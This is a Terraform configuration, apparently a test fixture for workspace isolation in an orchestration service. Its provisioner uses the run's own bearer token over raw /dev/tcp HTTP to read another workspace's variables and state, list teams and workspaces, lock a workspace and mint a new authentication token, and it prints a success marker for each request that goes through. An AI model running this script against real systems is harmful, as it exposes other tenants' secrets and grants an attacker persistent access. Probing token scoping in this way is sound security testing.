# Uses the token for its own state to read and write what is others'.

variable "other" {
  description = "Another workspace's id."
  type        = string
}

variable "organization" {
  type = string
}

resource "terraform_data" "attack" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      won() { echo "attack-$((40 + 2))-succeeded: $1"; }
      address=$(grep -o 'http://[0-9.:]*' "$HOME/terraform.rc" | head -n 1)
      ask() {
        exec 3<> "/dev/tcp/$(cut -d/ -f3 <<< "$address" | tr : /)" || return
        printf '%s %s HTTP/1.0\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/vnd.api+json\r\nContent-Length: %s\r\n\r\n%s' \
          "$1" "$2" "$(cut -d/ -f3 <<< "$address")" "$TF_TOKEN_orchestrator_internal" "$(printf '%s' "$3" | wc -c)" "$3" >&3
        head -n 1 <&3 | grep -q ' 20[0-9] ' && won "$1 $2"
      }
      for place in account/details organizations workspaces/${var.other} workspaces/${var.other}/vars workspaces/${var.other}/current-state-version \
        organizations/${var.organization}/workspaces organizations/${var.organization}/teams; do
        ask GET "/api/v2/$place" ''
      done
      ask POST /api/v2/organizations '{"data":{"type":"organizations","attributes":{"name":"mine"}}}'
      ask POST /api/v2/workspaces/${var.other}/actions/lock '{}'
      ask POST /api/v2/users/me/authentication-tokens '{"data":{"type":"authentication-tokens","attributes":{"description":"mine"}}}'
    EOT
  }
}
